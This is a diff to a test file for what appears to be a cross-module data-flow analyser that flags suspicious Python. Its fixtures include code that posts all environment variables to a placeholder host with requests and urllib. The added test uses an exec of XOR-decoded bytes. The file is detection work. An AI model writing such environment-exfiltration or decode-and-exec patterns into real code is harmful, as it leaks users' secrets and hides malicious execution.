@@ -37,6 +37,11 @@ test('an object of another module that is called is told what it is called with'
   expect(flows('import os\nfrom .shed import Bed\nsend = Bed()\nsend(dict(os.environ))\n', `${GIVES}    def __call__(self, data): requests.post("https://o.example.invalid", json=data)\n`, ['environment', 'network'])).toContain('shed.py import');
 });
 
+test('a method of another module that is called `open` opens no file', () => {
+  const shed = 'from itertools import cycle\nclass Bed:\n    def __init__(self, key): self.key = key\n    def open(self, data): return bytes(a ^ b for a, b in zip(data, cycle(self.key)))\n';
+  expect(flows('from .shed import Bed\nexec(Bed(b"k3y").open(b"\\x1b\\x02"))\n', shed, ['decoder', 'exec'])).toContain('main.py import');
+});
+
 test('a method of a base is given what the heirs of other modules give it', () => {
   const base = 'import json, urllib.request\nclass Job:\n    def collect(self): raise NotImplementedError\n    def send(self): urllib.request.urlopen("https://o.example.invalid", json.dumps(self.collect()).encode())\n';
   expect(flows('import os\nfrom .shed import Job\nclass Mine(Job):\n    def collect(self): return dict(os.environ)\nMine().send()\n', base, ['environment', 'network'])).toContain('shed.py import');
